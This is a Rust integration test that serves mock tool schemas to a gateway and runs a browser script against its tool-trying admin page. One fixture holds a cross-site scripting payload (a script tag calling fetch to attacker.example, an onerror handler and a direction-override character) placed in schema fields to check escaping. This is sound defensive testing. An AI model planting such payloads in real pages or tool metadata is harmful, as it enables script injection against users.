//! The view that tries a tool, in a browser: `tests/page/try.mjs` does what a person would.

use std::path::Path;
use std::time::Duration;

use moongate_mock::MockScript;
use serde_json::{Value, json};
use tokio::process::Command;

use crate::harness::{Setup, legacy, only, serve};

fn tool(name: &str, properties: &Value, required: &[&str]) -> Value {
    let schema = json!({ "type": "object", "properties": properties, "required": required });
    json!({ "name": name, "description": "Does what its name says.", "inputSchema": schema })
}

fn tools() -> Vec<Value> {
    let stop = json!({ "type": "string" });
    let trip = json!({
        "place": { "type": "string", "description": "Where to go.", "examples": ["Mainz"] },
        "days": { "type": "integer", "minimum": 1, "default": 3 },
        "by": { "enum": ["train", "bike", "boat"] },
        "note": { "type": "string", "maxLength": 500 },
        "colour": { "enum": ["red", "green", "blue", "black", "white"] },
        "budget": { "anyOf": [{ "type": "number" }, { "type": "null" }] },
        "stops": { "type": "array", "items": stop, "maxItems": 5 },
        "hotel": { "type": "object", "properties": { "stars": { "type": "integer" }, "breakfast": { "type": "boolean" } } },
        "when": { "oneOf": [{ "type": "string", "format": "date", "title": "day" }, { "type": "integer", "title": "week" }] },
        "tags": { "type": "object", "additionalProperties": { "type": "string" } },
        "odd": {},
    });
    let hostile = "</p><script>fetch('http://attacker.example')</script><img src=x onerror=alert(1)>\u{202e}".repeat(3);
    let bad =
        json!({ hostile.clone(): { "type": "string", "description": hostile, "default": hostile, "title": hostile } });
    let number = json!({ "type": "integer" });
    vec![
        tool("plan_trip", &trip, &["place", "days", "by"]),
        tool("count", &json!({ "steps": number, "ms": number }), &[]),
        tool("wait", &json!({ "ms": number }), &[]),
        tool("ask_name", &json!({}), &[]),
        tool("ask_page", &json!({}), &[]),
        tool("fail", &json!({}), &[]),
        tool("hostile", &bad, &[]),
    ]
}

#[tokio::test]
async fn a_tool_is_tried_in_a_browser() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let home = Path::new(env!("CARGO_TARGET_TMPDIR")).parent().unwrap().join("page");
    assert!(home.join("npm/.stamp").is_file(), "the browser's drivers are missing: run tests/page/setup.sh");
    let behave = [
        ("plan_trip", "echo"),
        ("count", "progress"),
        ("wait", "sleep"),
        ("ask_name", "elicit"),
        ("ask_page", "elicit_url"),
        ("hostile", "echo"),
    ];
    let behave = behave.map(|(name, like)| (name.to_owned(), like.to_owned()));
    let server = serve(MockScript { tools: tools(), behave: behave.into(), ..only(legacy(), &[]) }).await;
    let gateway = Setup::new().http("a", &server.url).start().await;
    gateway.ready(&["a"]).await;
    let script = Command::new("node")
        .arg(root.join("tests/page/try.mjs"))
        .env("PAGE_HOME", &home)
        .env("PAGE_BASE", format!("http://{}", gateway.app.admin.unwrap()))
        .env("PAGE_PICTURES", home.join("pictures"))
        .kill_on_drop(true)
        .output();
    let output = tokio::time::timeout(Duration::from_secs(180), script).await.expect("the script ends").unwrap();
    let text = String::from_utf8_lossy(&output.stdout);
    let failed: Vec<&str> = text.lines().filter_map(|line| line.strip_prefix("FAILED: ")).collect();
    assert!(output.status.success(), "{}\n{}", failed.join("\n"), String::from_utf8_lossy(&output.stderr));
}
